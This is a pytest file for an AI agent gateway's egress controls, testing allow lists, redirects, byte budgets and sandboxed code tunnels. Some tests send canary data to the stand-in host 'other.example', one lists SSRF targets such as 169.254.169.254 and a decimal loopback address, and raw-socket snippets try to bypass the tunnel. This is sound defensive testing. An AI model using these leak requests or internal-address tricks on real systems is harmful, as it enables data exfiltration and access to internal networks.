"""What leaves, and what does not: canaries at real servers, through a whole gateway."""

from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from trilemma.gateway.egress import STRUCTURED
from trilemma.gateway.ledger.events import Kind
from trilemma.policy.capability import parse

pytestmark = [pytest.mark.docker, pytest.mark.root]

Make = Callable[..., Any]

URLLIB = "import urllib.request as u\nprint(u.urlopen('{url}', timeout=10).read().decode())"
SOCKET = """
import socket
try:
    there = socket.create_connection(("127.0.0.1", {port}), timeout=5)
    there.sendall(b"GET /direct HTTP/1.0\\r\\n\\r\\n")
except OSError as error:
    print("refused", error)
"""


def structured(made: Any, server: Any, **fields: Any) -> Any:
    grants = ["files", "internet"]
    fields = {"hosts": [server.rule()]} | fields
    return made.open("read_file", "http_fetch", grants=grants, files=True, **fields)


def test_a_listed_host_is_reached_and_no_other(gate: Make, origin: Make) -> None:
    server = origin()
    made = gate(server.policy)
    session = structured(made, server)
    assert "hello" in session.ok("http_fetch", url=server.url("/ok"))
    outcome = session.call("http_fetch", url=server.url("/leak?d=canary-4711", "other.example"))
    assert not outcome.ok
    assert "not on the list" in outcome.text
    assert server.paths == ["/ok"]
    assert [r.event.body["host"] for r in made.events(Kind.EGRESS_DENIED)] == ["other.example"]


def test_sabotage_once_listed_the_other_host_gets_it(gate: Make, origin: Make) -> None:
    server = origin()
    session = structured(gate(server.policy), server, hosts=[server.rule("other.example")])
    session.ok("http_fetch", url=server.url("/leak?d=canary-4711", "other.example"))
    assert server.paths == ["/leak?d=canary-4711"]


def test_the_operator_s_list_narrows_the_agent_s(gate: Make, origin: Make) -> None:
    server = origin()
    allow = f"  allow: [{{host: other.example, ports: [{server.port}], schemes: [http]}}]\n"
    session = structured(gate(server.policy + allow), server)
    assert not session.call("http_fetch", url=server.url("/leak")).ok
    assert server.paths == []


def test_without_a_list_files_and_internet_go_nowhere(gate: Make, origin: Make) -> None:
    server = origin()
    session = structured(gate(server.policy), server, hosts=None)
    assert not session.call("http_fetch", url=server.url("/leak")).ok
    assert server.paths == []


def test_a_method_that_is_not_listed_does_not_leave(gate: Make, origin: Make) -> None:
    server = origin()
    made = gate(server.policy)
    post = {"url": server.url("/post"), "method": "POST", "body": "canary-4711"}
    assert not structured(made, server).call("http_fetch", **post).ok
    assert server.paths == []
    rule = server.rule(methods=["POST"])
    structured(made, server, hosts=[rule]).ok("http_fetch", **post)
    assert server.bodies == [b"canary-4711"]


def test_a_redirect_is_decided_again(gate: Make, origin: Make) -> None:
    server = origin()
    server.redirects["/go"] = server.url("/leak", "other.example")
    session = structured(gate(server.policy), server)
    assert not session.call("http_fetch", url=server.url("/go")).ok
    assert server.paths == ["/go"]


@pytest.mark.parametrize(
    "host", ["127.0.0.1", "localhost", "169.254.169.254", "[::1]", "2130706433", "10.0.0.1"]
)
def test_an_inside_address_is_refused_though_the_agent_lists_it(
    gate: Make, origin: Make, host: str
) -> None:
    server = origin()
    session = gate().open(
        "http_fetch",
        grants=["internet"],
        hosts=[{"host": host.strip("[]"), "ports": [server.port], "schemes": ["http"]}]
        if host != "2130706433"
        else None,
        sandbox={"call_seconds": 10.0},
    )
    assert not session.call("http_fetch", url=server.url("/leak", host)).ok
    assert server.paths == []


def test_a_name_with_an_inside_address_is_refused_without_the_operator_s_word(
    gate: Make, origin: Make
) -> None:
    server = origin()
    policy = "egress:\n  hosts: {listed.example: 127.0.0.1}\n"
    session = structured(gate(policy), server)
    assert not session.call("http_fetch", url=server.url("/leak")).ok
    assert server.paths == []


def test_parallel_requests_do_not_overdraw_the_budget(gate: Make, origin: Make) -> None:
    server, budget = origin(), 1000
    made = gate(server.policy + f"  bytes_out: {budget}\n")
    session = structured(made, server)

    def fetch(number: int) -> bool:
        return bool(session.call("http_fetch", url=server.url(f"/{number}?{'x' * 100}")).ok)

    with ThreadPoolExecutor(8) as threads:
        outcomes = list(threads.map(fetch, range(16)))
    charges = [r.event.charge for r in made.events(Kind.EGRESS_ALLOWED)]
    assert 0 < sum(charges) <= budget
    assert made.ledger.charged(session.session.domain, STRUCTURED) == sum(charges)
    assert len(server.paths) == len(charges) == outcomes.count(True)
    assert budget - sum(charges) < max(charges)


def test_sabotage_with_a_large_budget_all_of_it_leaves(gate: Make, origin: Make) -> None:
    server = origin()
    session = structured(gate(server.policy), server)
    for number in range(16):
        session.ok("http_fetch", url=server.url(f"/{number}?{'x' * 100}"))
    assert len(server.paths) == 16


def test_a_new_session_of_the_domain_has_no_new_budget(gate: Make, origin: Make) -> None:
    server = origin()
    made = gate(server.policy + "  bytes_out: 300\n")
    session = structured(made, server)
    session.ok("http_fetch", url=server.url("/1?" + "x" * 150))
    session.close()
    assert not structured(made, server).call("http_fetch", url=server.url("/2?" + "x" * 150)).ok
    assert len(server.paths) == 1


def test_programs_reach_a_host_through_the_tunnel_and_nothing_besides_it(
    gate: Make, origin: Make
) -> None:
    server = origin()
    session = gate(server.policy).open("run_code", grants=["internet", "code"])
    code = URLLIB.format(url=server.url("/tunnel"))
    assert "hello" in session.ok("run_code", language="python", code=code)
    direct = SOCKET.format(port=server.port)
    assert "refused" in session.ok("run_code", language="python", code=direct)
    assert server.paths == ["/tunnel"]


def test_files_and_code_have_no_way_out(gate: Make, origin: Make) -> None:
    server = origin()
    session = gate(server.policy).open("run_code", grants=["files", "code"], files=True)
    for code in (URLLIB.format(url=server.url("/leak")), SOCKET.format(port=server.port)):
        session.call("run_code", language="python", code=code)
    assert server.paths == []
    assert session.held == parse(["files", "code"])


def test_a_tunnel_belongs_to_the_session_whose_list_decides(gate: Make, origin: Make) -> None:
    server = origin()
    made = gate(server.policy)
    code = URLLIB.format(url=server.url("/leak"))
    free = made.open("run_code", grants=["internet", "code"])
    shut = made.open("run_code", grants=["internet", "code"], hosts=[])
    assert free.session.domain == shut.session.domain
    free.ok("run_code", language="python", code=code)
    assert "hello" not in shut.call("run_code", language="python", code=code).text
    assert server.paths == ["/leak"]
    shut.close()
    free.ok("run_code", language="python", code=code)


def test_one_domain_may_have_both_ways_out(gate: Make, origin: Make) -> None:
    server = origin()
    made = gate(server.policy)
    first = made.open("http_fetch", grants=["files", "internet"], hosts=[server.rule()])
    first.ok("http_fetch", url=server.url("/structured"))
    second = made.open("run_code", grants=["internet", "code"])
    second.ok("run_code", language="python", code=URLLIB.format(url=server.url("/tunnel")))
    assert server.paths == ["/structured", "/tunnel"]
